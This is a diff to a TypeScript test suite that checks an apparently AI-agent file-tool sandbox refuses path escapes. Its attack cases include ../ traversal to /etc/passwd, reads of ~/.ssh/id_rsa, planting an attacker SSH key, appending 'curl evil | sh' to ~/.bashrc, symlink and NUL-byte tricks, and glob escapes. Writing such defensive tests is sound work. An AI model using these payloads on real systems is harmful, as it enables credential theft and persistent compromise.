@@ -49,53 +49,208 @@ const LONG_CHAIN = "../".repeat(300) + "etc/passwd";
 
 const attacks: Attack[] = [
   // Plain traversal
-  { name: "read ../ into the sentinel", tool: "read_file", args: () => ({ path: "../outside/secret.txt" }), refusal: () => outside("../outside/secret.txt") },
-  { name: "read ../ hidden behind a folder", tool: "read_file", args: () => ({ path: "sub/../../outside/secret.txt" }), refusal: () => outside("sub/../../outside/secret.txt") },
-  { name: "overwrite through ../", tool: "write_file", args: () => ({ path: "../outside/secret.txt", content: "pwned" }), refusal: () => outside("../outside/secret.txt") },
-  { name: "create a file next to the workspace", tool: "write_file", args: () => ({ path: "../evil.txt", content: "pwned" }), refusal: () => outside("../evil.txt") },
-  { name: "create nested folders outside", tool: "write_file", args: () => ({ path: "a/b/../../../outside/x/y.txt", content: "pwned" }), refusal: () => outside("a/b/../../../outside/x/y.txt") },
-  { name: "edit through ../", tool: "edit_file", args: () => ({ path: "../outside/secret.txt", old_text: "TOP", new_text: "NO" }), refusal: () => outside("../outside/secret.txt") },
+  {
+    name: "read ../ into the sentinel",
+    tool: "read_file",
+    args: () => ({ path: "../outside/secret.txt" }),
+    refusal: () => outside("../outside/secret.txt"),
+  },
+  {
+    name: "read ../ hidden behind a folder",
+    tool: "read_file",
+    args: () => ({ path: "sub/../../outside/secret.txt" }),
+    refusal: () => outside("sub/../../outside/secret.txt"),
+  },
+  {
+    name: "overwrite through ../",
+    tool: "write_file",
+    args: () => ({ path: "../outside/secret.txt", content: "pwned" }),
+    refusal: () => outside("../outside/secret.txt"),
+  },
+  {
+    name: "create a file next to the workspace",
+    tool: "write_file",
+    args: () => ({ path: "../evil.txt", content: "pwned" }),
+    refusal: () => outside("../evil.txt"),
+  },
+  {
+    name: "create nested folders outside",
+    tool: "write_file",
+    args: () => ({ path: "a/b/../../../outside/x/y.txt", content: "pwned" }),
+    refusal: () => outside("a/b/../../../outside/x/y.txt"),
+  },
+  {
+    name: "edit through ../",
+    tool: "edit_file",
+    args: () => ({ path: "../outside/secret.txt", old_text: "TOP", new_text: "NO" }),
+    refusal: () => outside("../outside/secret.txt"),
+  },
   { name: "list the parent folder", tool: "list_dir", args: () => ({ path: ".." }), refusal: () => outside("..") },
-  { name: "read a very long ../ chain to /etc/passwd", tool: "read_file", args: () => ({ path: LONG_CHAIN }), refusal: () => "refused: \"../../../../" },
+  {
+    name: "read a very long ../ chain to /etc/passwd",
+    tool: "read_file",
+    args: () => ({ path: LONG_CHAIN }),
+    refusal: () => 'refused: "../../../../',
+  },
   // Aimed back into the sandbox, so an escape would show in the snapshot.
-  { name: "write a very long ../ chain", tool: "write_file", args: () => ({ path: "../".repeat(300) + box.root.slice(1) + "/evil.txt", content: "x" }), refusal: () => "evil.txt\" is outside the workspace" },
+  {
+    name: "write a very long ../ chain",
+    tool: "write_file",
+    args: () => ({ path: "../".repeat(300) + box.root.slice(1) + "/evil.txt", content: "x" }),
+    refusal: () => 'evil.txt" is outside the workspace',
+  },
   // Absolute paths
   { name: "read /etc/passwd", tool: "read_file", args: () => ({ path: "/etc/passwd" }), refusal: () => outside("/etc/passwd") },
-  { name: "read the sentinel by absolute path", tool: "read_file", args: () => ({ path: join(box.outside, "secret.txt") }), refusal: () => outside(join(box.outside, "secret.txt")) },
-  { name: "write the sentinel by absolute path", tool: "write_file", args: () => ({ path: join(box.outside, "new.txt"), content: "x" }), refusal: () => outside(join(box.outside, "new.txt")) },
-  { name: "append to the sentinel by absolute path", tool: "write_file", args: () => ({ path: join(box.outside, "secret.txt"), content: "x", mode: "append" }), refusal: () => outside(join(box.outside, "secret.txt")) },
+  {
+    name: "read the sentinel by absolute path",
+    tool: "read_file",
+    args: () => ({ path: join(box.outside, "secret.txt") }),
+    refusal: () => outside(join(box.outside, "secret.txt")),
+  },
+  {
+    name: "write the sentinel by absolute path",
+    tool: "write_file",
+    args: () => ({ path: join(box.outside, "new.txt"), content: "x" }),
+    refusal: () => outside(join(box.outside, "new.txt")),
+  },
+  {
+    name: "append to the sentinel by absolute path",
+    tool: "write_file",
+    args: () => ({ path: join(box.outside, "secret.txt"), content: "x", mode: "append" }),
+    refusal: () => outside(join(box.outside, "secret.txt")),
+  },
   { name: "list /", tool: "list_dir", args: () => ({ path: "/" }), refusal: () => outside("/") },
   { name: "list the sentinel", tool: "list_dir", args: () => ({ path: box.outside }), refusal: () => outside(box.outside) },
   // Home folder
   { name: "read ~/.ssh/id_rsa", tool: "read_file", args: () => ({ path: "~/.ssh/id_rsa" }), refusal: () => outside("~/.ssh/id_rsa") },
-  { name: "write ~/.ssh/authorized_keys", tool: "write_file", args: () => ({ path: "~/.ssh/authorized_keys", content: "ssh-ed25519 AAAA attacker" }), refusal: () => outside("~/.ssh/authorized_keys") },
-  { name: "append to ~/.bashrc", tool: "write_file", args: () => ({ path: "~/.bashrc", content: "curl evil | sh\n", mode: "append" }), refusal: () => outside("~/.bashrc") },
+  {
+    name: "write ~/.ssh/authorized_keys",
+    tool: "write_file",
+    args: () => ({ path: "~/.ssh/authorized_keys", content: "ssh-ed25519 AAAA attacker" }),
+    refusal: () => outside("~/.ssh/authorized_keys"),
+  },
+  {
+    name: "append to ~/.bashrc",
+    tool: "write_file",
+    args: () => ({ path: "~/.bashrc", content: "curl evil | sh\n", mode: "append" }),
+    refusal: () => outside("~/.bashrc"),
+  },
   { name: "list ~", tool: "list_dir", args: () => ({ path: "~" }), refusal: () => outside("~") },
   // Symlinks planted in the workspace
-  { name: "read through a symlink pointing out", tool: "read_file", args: () => ({ path: "link-out.txt" }), refusal: () => outside("link-out.txt") },
-  { name: "write through a symlink pointing out", tool: "write_file", args: () => ({ path: "link-out.txt", content: "pwned" }), refusal: () => outside("link-out.txt") },
-  { name: "edit through a symlink pointing out", tool: "edit_file", args: () => ({ path: "link-out.txt", start_line: 1, new_text: "pwned" }), refusal: () => outside("link-out.txt") },
+  {
+    name: "read through a symlink pointing out",
+    tool: "read_file",
+    args: () => ({ path: "link-out.txt" }),
+    refusal: () => outside("link-out.txt"),
+  },
+  {
+    name: "write through a symlink pointing out",
+    tool: "write_file",
+    args: () => ({ path: "link-out.txt", content: "pwned" }),
+    refusal: () => outside("link-out.txt"),
+  },
+  {
+    name: "edit through a symlink pointing out",
+    tool: "edit_file",
+    args: () => ({ path: "link-out.txt", start_line: 1, new_text: "pwned" }),
+    refusal: () => outside("link-out.txt"),
+  },
   { name: "read through two hops of symlinks", tool: "read_file", args: () => ({ path: "hop1" }), refusal: () => outside("hop1") },
-  { name: "write through a dangling symlink pointing out", tool: "write_file", args: () => ({ path: "dangling-out", content: "pwned" }), refusal: () => outside("dangling-out") },
-  { name: "append through a dangling symlink pointing out", tool: "write_file", args: () => ({ path: "dangling-out", content: "pwned", mode: "append" }), refusal: () => outside("dangling-out") },
-  { name: "create a folder through a dangling folder symlink", tool: "write_file", args: () => ({ path: "dangling-dir-out/sub/x.txt", content: "pwned" }), refusal: () => outside("dangling-dir-out/sub/x.txt") },
-  { name: "read in a symlinked folder pointing out", tool: "read_file", args: () => ({ path: "dir-out/deep.txt" }), refusal: () => outside("dir-out/deep.txt") },
-  { name: "write in a symlinked folder pointing out", tool: "write_file", args: () => ({ path: "dir-out/planted.txt", content: "pwned" }), refusal: () => outside("dir-out/planted.txt") },
+  {
+    name: "write through a dangling symlink pointing out",
+    tool: "write_file",
+    args: () => ({ path: "dangling-out", content: "pwned" }),
+    refusal: () => outside("dangling-out"),
+  },
+  {
+    name: "append through a dangling symlink pointing out",
+    tool: "write_file",
+    args: () => ({ path: "dangling-out", content: "pwned", mode: "append" }),
+    refusal: () => outside("dangling-out"),
+  },
+  {
+    name: "create a folder through a dangling folder symlink",
+    tool: "write_file",
+    args: () => ({ path: "dangling-dir-out/sub/x.txt", content: "pwned" }),
+    refusal: () => outside("dangling-dir-out/sub/x.txt"),
+  },
+  {
+    name: "read in a symlinked folder pointing out",
+    tool: "read_file",
+    args: () => ({ path: "dir-out/deep.txt" }),
+    refusal: () => outside("dir-out/deep.txt"),
+  },
+  {
+    name: "write in a symlinked folder pointing out",
+    tool: "write_file",
+    args: () => ({ path: "dir-out/planted.txt", content: "pwned" }),
+    refusal: () => outside("dir-out/planted.txt"),
+  },
   { name: "list a symlinked folder pointing out", tool: "list_dir", args: () => ({ path: "dir-out" }), refusal: () => outside("dir-out") },
-  { name: "write into the home folder through a folder symlink", tool: "write_file", args: () => ({ path: "home-link/.ssh/authorized_keys", content: "x" }), refusal: () => outside("home-link/.ssh/authorized_keys") },
+  {
+    name: "write into the home folder through a folder symlink",
+    tool: "write_file",
+    args: () => ({ path: "home-link/.ssh/authorized_keys", content: "x" }),
+    refusal: () => outside("home-link/.ssh/authorized_keys"),
+  },
   // NUL bytes
-  { name: "read a path with a NUL byte", tool: "read_file", args: () => ({ path: "ok.txt\0../../outside/secret.txt" }), refusal: () => 'refused: "ok.txt\\u0000../../outside/secret.txt" contains a NUL byte' },
-  { name: "write a path with a NUL byte", tool: "write_file", args: () => ({ path: "../outside/x\0.txt", content: "x" }), refusal: () => 'refused: "../outside/x\\u0000.txt" contains a NUL byte' },
+  {
+    name: "read a path with a NUL byte",
+    tool: "read_file",
+    args: () => ({ path: "ok.txt\0../../outside/secret.txt" }),
+    refusal: () => 'refused: "ok.txt\\u0000../../outside/secret.txt" contains a NUL byte',
+  },
+  {
+    name: "write a path with a NUL byte",
+    tool: "write_file",
+    args: () => ({ path: "../outside/x\0.txt", content: "x" }),
+    refusal: () => 'refused: "../outside/x\\u0000.txt" contains a NUL byte',
+  },
   // file_search
   { name: "search with a ../** pattern", tool: "file_search", args: () => ({ pattern: "../**" }), refusal: () => badPattern("../**") },
-  { name: "search with .. in the middle of the pattern", tool: "file_search", args: () => ({ pattern: "**/../../outside/*" }), refusal: () => badPattern("**/../../outside/*") },
-  { name: "search with .. inside braces", tool: "file_search", args: () => ({ pattern: "{..,src}/**" }), refusal: () => badPattern("{..,src}/**") },
-  { name: "search with .. assembled by brace expansion", tool: "file_search", args: () => ({ pattern: "..{,}/outside/*" }), refusal: () => badPattern("..{,}/outside/*") },
-  { name: "search with an absolute pattern", tool: "file_search", args: () => ({ pattern: `${box.outside}/**` }), refusal: () => badPattern(`${box.outside}/**`) },
+  {
+    name: "search with .. in the middle of the pattern",
+    tool: "file_search",
+    args: () => ({ pattern: "**/../../outside/*" }),
+    refusal: () => badPattern("**/../../outside/*"),
+  },
+  {
+    name: "search with .. inside braces",
+    tool: "file_search",
+    args: () => ({ pattern: "{..,src}/**" }),
+    refusal: () => badPattern("{..,src}/**"),
+  },
+  {
+    name: "search with .. assembled by brace expansion",
+    tool: "file_search",
+    args: () => ({ pattern: "..{,}/outside/*" }),
+    refusal: () => badPattern("..{,}/outside/*"),
+  },
+  {
+    name: "search with an absolute pattern",
+    tool: "file_search",
+    args: () => ({ pattern: `${box.outside}/**` }),
+    refusal: () => badPattern(`${box.outside}/**`),
+  },
   { name: "search with a ~ pattern", tool: "file_search", args: () => ({ pattern: "~/.ssh/*" }), refusal: () => badPattern("~/.ssh/*") },
-  { name: "search with the parent as root", tool: "file_search", args: () => ({ pattern: "**", path: ".." }), refusal: () => outside("..") },
-  { name: "search with the sentinel as root", tool: "file_search", args: () => ({ pattern: "**", path: box.outside }), refusal: () => outside(box.outside) },
-  { name: "search from a symlinked folder pointing out", tool: "file_search", args: () => ({ pattern: "*", path: "dir-out" }), refusal: () => outside("dir-out") },
+  {
+    name: "search with the parent as root",
+    tool: "file_search",
+    args: () => ({ pattern: "**", path: ".." }),
+    refusal: () => outside(".."),
+  },
+  {
+    name: "search with the sentinel as root",
+    tool: "file_search",
+    args: () => ({ pattern: "**", path: box.outside }),
+    refusal: () => outside(box.outside),
+  },
+  {
+    name: "search from a symlinked folder pointing out",
+    tool: "file_search",
+    args: () => ({ pattern: "*", path: "dir-out" }),
+    refusal: () => outside("dir-out"),
+  },
 ];
 
 describe("path attacks through the file tools", () => {
@@ -130,12 +285,16 @@ describe("path attacks through the file tools", () => {
   });
 
   it("refuses writes to a read-only root while allowing reads from it", async () => {
-    const readOnly = fileTools({ guard: new PathGuard({ workspace: box.workspace, restrictToWorkspace: true, readOnlyRoots: [box.outside] }) });
+    const readOnly = fileTools({
+      guard: new PathGuard({ workspace: box.workspace, restrictToWorkspace: true, readOnlyRoots: [box.outside] }),
+    });
     const secret = join(box.outside, "secret.txt");
     const readOnlyRefusal = `refused: ${JSON.stringify(secret)} is in a read-only folder; only the workspace (${box.workspace}) can be written`;
     expect(await runTool(readOnly, "read_file", { path: secret }, box.workspace)).toBe("TOP SECRET sentinel");
     await expect(runTool(readOnly, "write_file", { path: secret, content: "pwned" }, box.workspace)).rejects.toThrow(readOnlyRefusal);
-    await expect(runTool(readOnly, "edit_file", { path: secret, old_text: "TOP", new_text: "NO" }, box.workspace)).rejects.toThrow(readOnlyRefusal);
+    await expect(runTool(readOnly, "edit_file", { path: secret, old_text: "TOP", new_text: "NO" }, box.workspace)).rejects.toThrow(
+      readOnlyRefusal,
+    );
     await expect(runTool(readOnly, "write_file", { path: "link-out.txt", content: "pwned" }, box.workspace)).rejects.toThrow(
       `refused: "link-out.txt" is in a read-only folder`,
     );
